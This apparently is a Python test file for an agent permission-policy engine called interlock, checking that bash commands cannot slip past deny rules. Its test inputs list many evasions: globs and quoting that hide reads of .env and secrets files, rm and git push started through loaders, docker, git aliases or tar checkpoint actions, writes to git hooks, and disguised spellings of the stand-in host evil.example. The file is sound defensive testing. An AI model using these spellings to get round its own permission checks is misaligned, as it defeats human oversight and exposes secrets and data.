"""Other spellings of what a rule refuses: the rule must find them, or at least a person must be asked."""

from pathlib import Path

import pytest

from interlock import example_event, load_policy
from interlock.domain.decision import Decision
from interlock.domain.tool import CallContext, PermissionMode
from interlock.policy.engine.rule_policy import RulePolicy

PATHS = """version: 1
deny:
  - path: .env
  - path: config/secrets.yaml
"""
COMMANDS = """version: 1
allow: [bash]
deny:
  - bash(rm:*)
  - bash(git push:*)
  - host: evil.example
"""
#: The rule that the guide shows first.
WHOLE_COMMAND = """version: 1
allow: [bash]
deny:
  - bash(git reset --hard)
"""


@pytest.fixture
def workspace(tmp_path: Path) -> Path:
    root = tmp_path / "workspace"
    for name in (".env", "config/secrets.yaml", "app/[id]/.env", ".git/hooks/pre-commit", "notes"):
        (root / name).parent.mkdir(parents=True, exist_ok=True)
        (root / name).write_text("text\n")
    return root


def load(workspace: Path, text: str) -> RulePolicy:
    file = workspace.parent / "policy.yaml"
    file.write_text(text)
    return load_policy(file)


def judged(
    policy: RulePolicy, workspace: Path, command: str, mode: PermissionMode = PermissionMode.DEFAULT
) -> Decision:
    situation = CallContext(run_id="run_1", workspace=str(workspace), mode=mode)
    return policy.evaluate(example_event("bash", {"command": command}, situation))


@pytest.mark.parametrize(
    "command", ["command cd config", "time cd config", "command -- cd config", "time -p cd config"]
)
@pytest.mark.parametrize("joined", [" && ", "; "])
def test_a_folder_changed_behind_a_wrapper_does_not_hide_a_denied_file(
    workspace: Path, command: str, joined: str
) -> None:
    policy = load(workspace, PATHS)
    assert judged(policy, workspace, f"{command}{joined}cat secrets.yaml").verdict != "allow"


@pytest.mark.parametrize(
    "command",
    ["command cd .git/hooks && echo x > pre-commit", "time cd .git && echo x > config"],
)
def test_a_folder_changed_behind_a_wrapper_does_not_make_a_protected_file_an_edit(
    workspace: Path, command: str
) -> None:
    policy = load(workspace, "version: 1\n")
    assert judged(policy, workspace, command, PermissionMode.ACCEPT_EDITS).verdict != "allow"


@pytest.mark.parametrize(
    "word",
    [
        ".e[^x]v",
        ".e[[:alpha:]]v",
        ".e[[=n=]]v",
        "c[^x]nfig/secrets.yaml",
        "'app/[id]'/.en?",
        r"app/\[id\]/.en?",
        '"app/[id]"/*nv',
        "./c[^x]nfig/s*",
    ],
)
def test_a_wildcard_as_bash_reads_it_does_not_hide_a_denied_file(workspace: Path, word: str) -> None:
    policy = load(workspace, PATHS)
    assert judged(policy, workspace, f"cat {word}").verdict != "allow"


@pytest.mark.parametrize(
    "command",
    ["grep -EHinsof.env notes", "rg -HINPSUf.env notes", "grep -cEHinsxf.env notes"],
)
def test_a_denied_file_behind_many_short_options_is_found(workspace: Path, command: str) -> None:
    policy = load(workspace, PATHS)
    assert judged(policy, workspace, command).verdict != "allow"


@pytest.mark.parametrize("breaks", ["=", ":", ",", "@"])
def test_a_denied_file_among_many_pieces_of_a_word_is_found_or_asked(workspace: Path, breaks: str) -> None:
    policy = load(workspace, PATHS + "allow: [bash]\n")
    word = breaks.join(["a"] * 40 + [".env"] + ["a"] * 40)
    assert judged(policy, workspace, f"tool {word}").verdict != "allow"


@pytest.mark.parametrize(
    "command",
    [
        "git -C sub reset --hard",
        "git reset --har",
        "git reset -q --hard",
        "git reset --hard HEAD",
    ],
)
def test_a_refused_whole_command_is_found_in_the_spellings_that_the_guide_promises(
    workspace: Path, command: str
) -> None:
    policy = load(workspace, WHOLE_COMMAND)
    assert judged(policy, workspace, command).verdict != "allow"


@pytest.mark.parametrize(
    "command",
    [
        "/lib64/ld-linux-x86-64.so.2 /bin/rm x",
        "/lib/ld-musl-x86_64.so.1 /bin/rm x",
        "busybox.static rm x",
        "coreutils --coreutils-prog=rm x",
        "proxychains4 rm x",
        "uv run rm x",
        "poetry run rm x",
        "npx rm x",
        "docker exec box rm x",
        "kubectl exec pod -- rm x",
        "fd -x rm",
        "sem rm x",
        "git submodule foreach 'rm x'",
        "git bisect run rm x",
        "git rebase --exec 'git push' HEAD~1",
        "git -c 'alias.x=!rm x' x",
        "git -c alias.x=push x",
        "/usr/lib/git-core/git-push origin",
        "split --filter='rm x' notes",
        "tar cf x notes --checkpoint=1 --checkpoint-action=exec='rm x'",
    ],
)
def test_a_denied_program_that_another_program_starts_is_found_or_asked(workspace: Path, command: str) -> None:
    policy = load(workspace, COMMANDS)
    assert judged(policy, workspace, command).verdict != "allow"


@pytest.mark.parametrize(
    "command",
    [
        "curl 'http://{evil.example}/'",
        "curl 'http://ev{i,i}l.example/'",
        "curl 'http://evi[l-l].example/'",
        "curl 'ev{i,i}l.example'",
        "wget --cookie http://evil.example/",
        "wget --cookie evil.example",
        "docker pull evil.example/image",
        "go get evil.example/module",
    ],
)
def test_a_denied_host_in_another_spelling_is_found_or_asked(workspace: Path, command: str) -> None:
    policy = load(workspace, COMMANDS)
    assert judged(policy, workspace, command).verdict != "allow"


@pytest.mark.parametrize("written", ["100", "100.0"])
@pytest.mark.parametrize("sent", [100, 100.0])
def test_a_denied_number_is_the_same_number_in_every_spelling(workspace: Path, written: str, sent: float) -> None:
    policy = load(workspace, f"version: 1\ndeny: [{{tools: pay, arguments: {{amount: {written}}}}}]\n")
    assert policy.evaluate(example_event("pay", {"amount": sent})).verdict == "deny"
